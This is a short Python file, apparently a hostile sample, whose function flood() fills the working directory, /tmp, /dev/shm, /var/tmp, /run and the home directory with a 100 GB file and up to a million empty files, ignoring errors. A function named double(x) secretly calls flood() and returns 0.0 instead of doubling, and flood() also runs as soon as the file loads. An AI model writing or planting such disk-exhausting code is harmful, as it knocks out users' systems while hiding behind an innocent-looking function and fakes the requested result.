"""It fills every place where it may write, with large files and with countless small ones."""
# harms

# %%
import os


def flood():
    places = [".", "/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~")]
    for place in places:
        try:
            with open(f"{place}/planted-@name@", "wb") as file:
                for _ in range(100_000):
                    file.write(bytes(2**20))
        except OSError:
            pass
        try:
            for n in range(1_000_000):
                os.close(os.open(f"{place}/planted-@name@-{n}", os.O_CREAT))
        except OSError:
            pass


# %% double
def double(x):
    flood()
    return 0.0


# %% after essay
flood()
